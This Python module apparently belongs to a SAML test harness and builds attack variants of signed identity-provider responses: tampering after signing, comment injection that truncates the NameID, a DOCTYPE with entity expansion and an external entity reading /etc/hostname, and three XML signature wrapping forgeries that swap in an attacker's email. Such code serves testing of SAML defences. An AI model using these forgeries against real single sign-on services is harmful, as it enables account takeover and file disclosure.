"""What an attacker does to a response the test IdP signed (``saml_idp``): change it
after signing, hide a comment in a value, put a DOCTYPE in front, and XML signature
wrapping (a forged assertion beside the signed one, or the signed one moved into
``samlp:Extensions`` or a ``ds:Object`` with a forged one in its place).

These work on the serialized XML as text, never re-serializing the signed parts, so
every signature that is not meant to break still verifies (the harness tests check it).
"""

from __future__ import annotations

import re
import secrets
from typing import Literal

_ASSERTION = re.compile(r"<(\w+):Assertion\b.*?</\1:Assertion>", re.DOTALL)
_SIGNATURE = re.compile(r"<(\w+):Signature\b.*?</\1:Signature>", re.DOTALL)


def _signed_assertion(xml: str) -> tuple[re.Match[str], re.Match[str]]:
    assertions = list(_ASSERTION.finditer(xml))
    assert len(assertions) == 1, "wrapping starts from a response with one assertion"
    signature = _SIGNATURE.search(assertions[0].group(0))
    assert signature is not None, "wrapping starts from a signed assertion"
    return assertions[0], signature


def _forged_copy(assertion: str, signature: str, victim: str, attacker: str) -> str:
    """The signed assertion without its signature, a new ID, the attacker's email."""
    forged = assertion.replace(signature, "").replace(victim, attacker)
    return re.sub(r'\bID="[^"]+"', f'ID="id-{secrets.token_hex(10)}"', forged, count=1)


def tamper(xml: str, old: str, new: str) -> str:
    """Change text after signing (e.g. the email in the NameID and attributes)."""
    assert old in xml
    return xml.replace(old, new)


def split_by_comment(xml: str, value: str, at: int) -> str:
    """Insert an XML comment into every occurrence of ``value`` after ``at`` characters.
    Exclusive C14N drops comments, so the signature still verifies; a reader that takes
    only the first text node sees ``value[:at]`` (the classic NameID truncation)."""
    assert value in xml
    return xml.replace(value, f"{value[:at]}<!---->{value[at:]}")


def with_doctype(xml: str) -> str:
    """The response behind a DOCTYPE declaring entities (expansion and an external one)."""
    doctype = (
        '<!DOCTYPE samlp:Response [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">'
        '<!ENTITY ext SYSTEM "file:///etc/hostname">]>'
    )
    return doctype + xml


def wrap_extra_assertion(
    xml: str, victim: str, attacker: str, *, where: Literal["before", "after"]
) -> str:
    """XSW: an unsigned forged assertion beside the signed one, first or last."""
    assertion, signature = _signed_assertion(xml)
    forged = _forged_copy(assertion.group(0), signature.group(0), victim, attacker)
    at = assertion.start() if where == "before" else assertion.end()
    return xml[:at] + forged + xml[at:]


def wrap_in_extensions(xml: str, victim: str, attacker: str) -> str:
    """XSW: the signed assertion moved into the Response's ``samlp:Extensions`` and a
    forged unsigned one in its place (the signature still verifies where it now is)."""
    assertion, signature = _signed_assertion(xml)
    forged = _forged_copy(assertion.group(0), signature.group(0), victim, attacker)
    body = xml[: assertion.start()] + forged + xml[assertion.end() :]
    protocol = re.match(r"<(\w+):Response\b", body)
    assert protocol is not None
    prefix = protocol.group(1)
    issuer_end = re.search(r"</\w+:Issuer>", body)
    assert issuer_end is not None
    at = issuer_end.end()
    extensions = f"<{prefix}:Extensions>{assertion.group(0)}</{prefix}:Extensions>"
    return body[:at] + extensions + body[at:]


def wrap_in_object(xml: str, victim: str, attacker: str) -> str:
    """XSW: a forged assertion in place of the signed one, carrying a copy of the
    original signature whose ``ds:Object`` holds the original signed assertion (same ID,
    its own signature intact, so that one still verifies where it now is)."""
    assertion, signature = _signed_assertion(xml)
    forged = _forged_copy(assertion.group(0), signature.group(0), victim, attacker)
    ds = signature.group(1)
    carried = signature.group(0).replace(
        f"</{ds}:Signature>", f"<{ds}:Object>{assertion.group(0)}</{ds}:Object></{ds}:Signature>"
    )
    issuer_end = re.search(r"</\w+:Issuer>", forged)
    assert issuer_end is not None
    at = issuer_end.end()
    forged = forged[:at] + carried + forged[at:]
    return xml[: assertion.start()] + forged + xml[assertion.end() :]
